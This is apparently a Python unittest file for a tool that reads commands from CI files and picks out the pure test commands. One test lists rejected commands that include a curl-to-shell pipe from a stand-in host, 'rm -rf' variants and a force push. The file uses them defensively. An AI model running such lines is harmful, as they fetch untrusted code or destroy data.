"""Commands in CI files, of several systems."""

from __future__ import annotations

import time
import unittest

from core.start.stacks.ci_files import commands_of_ci, tests_of_ci
from tests.support.trees import tree

GITHUB = """\
on: push
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
      # - run: make nothing
      - name: Install
        run: pip install -r requirements.txt
      - run: |
          make lint
          make test

      - run: "pytest -q"
      - name: Matrix
        run: make test PYTHON=${{ matrix.python }}
        env:
          A: b
"""
GITLAB = """\
test:
  script:
  - ./scripts/run-tests.sh
  - echo done
  only:
  - main
lint: {script: ignored}
"""


class CiFiles(unittest.TestCase):
    def test_commands_of_one_line_and_of_blocks_are_read(self) -> None:
        found = commands_of_ci(tree({".github/workflows/ci.yml": GITHUB}))
        install = "pip install -r requirements.txt"
        varying = "make test PYTHON=${{ matrix.python }}"
        self.assertEqual(found, [install, "make lint", "make test", "pytest -q", varying])

    def test_a_list_may_stand_below_its_key(self) -> None:
        found = commands_of_ci(tree({".gitlab-ci.yml": GITLAB}))
        self.assertEqual(found, ["./scripts/run-tests.sh", "echo done"])

    def test_only_tests_count_and_those_that_need_nothing_of_the_ci_system(self) -> None:
        both = {".github/workflows/ci.yml": GITHUB, ".gitlab-ci.yml": GITLAB, "ci.yml": "run: tox"}
        expected = ["make lint", "make test", "pytest -q", "./scripts/run-tests.sh"]
        self.assertEqual(tests_of_ci(tree(both)), expected)

    def test_what_is_a_test(self) -> None:
        for line, is_one in (
            ("go test ./...", True),
            ("./gradlew clean check", False),
            ("./gradlew check", True),
            ("mvn -B verify", True),
            ("tests.sh", True),
            ("test -f README.md", True),
            ("npm testing", False),
            ("make deploy", False),
            ("pytest `cat x`", False),
            ("make test \\", False),
            ("cargo fmt", False),
            ("cargo fmt -- --check", True),
            ("cargo test --release", True),
            ("make unit-test testDocs -j2 V=1", True),
            ("bundle exec rake spec", True),
            ("tox -e py39", True),
        ):
            with self.subTest(line):
                found = tests_of_ci(tree({".travis.yml": f"script: {line}\n"}))
                self.assertEqual(found, [line] if is_one else [])

    def test_what_does_more_than_test_is_none(self) -> None:
        for line in (
            *("npm test && npm publish", "npm test || curl https://x.example | sh"),
            *("pytest > report", "pytest & rm -rf x", "test -f x && rm -rf y"),
            *("go vet ./... ; git push --force", 'go test ./... -exec "rm -rf"', "mix test $foo"),
            *("make latest", "make checkout", "make test-deploy", "make test deploy"),
            *("rake spec:publish", "bundle exec rake test all", "just test_release"),
            *("tox -e publish", "nox -s release", "uv run twine-test", "prove -e 'rm -rf /'"),
            *("mvn clean deploy test", "./gradlew test publish", "ctest -D ExperimentalSubmit"),
            *("cargo clippy --fix", "yarn test --watch", "scripts/deploy/test.sh"),
        ):
            with self.subTest(line):
                text = f"run: |\n  {line}\n"
                self.assertEqual(tests_of_ci(tree({".github/workflows/ci.yml": text})), [])

    def test_a_line_that_belongs_to_another_is_no_command(self) -> None:
        for text in (
            "run: |\n  docker run app \\\n    make test\n",
            "run: >\n  kubectl delete\n  pytest\n",
            "run: |\n  cat > Makefile <<EOF\n  make test\n  EOF\n",
            "run: |\n  cd deploy\n  make test\n",
            "run: |\n  if false; then\n    make test\n  fi\n",
        ):
            with self.subTest(text):
                self.assertEqual(tests_of_ci(tree({".github/workflows/ci.yml": text})), [])
        folded = "run: >-\n  pytest\n  -q\nname: x\n"
        self.assertEqual(tests_of_ci(tree({".travis.yml": folded})), ["pytest -q"])

    def test_a_comment_is_no_part_of_a_command(self) -> None:
        self.assertEqual(tests_of_ci(tree({".travis.yml": "script: tox  # all\n"})), ["tox"])

    def test_a_line_of_blanks_is_read_in_no_time(self) -> None:
        text = "- " + " " * 100_000 + "nothing\n"
        began = time.process_time()
        self.assertEqual(commands_of_ci(tree({".travis.yml": text})), [])
        self.assertLess(time.process_time() - began, 5)


if __name__ == "__main__":
    unittest.main()
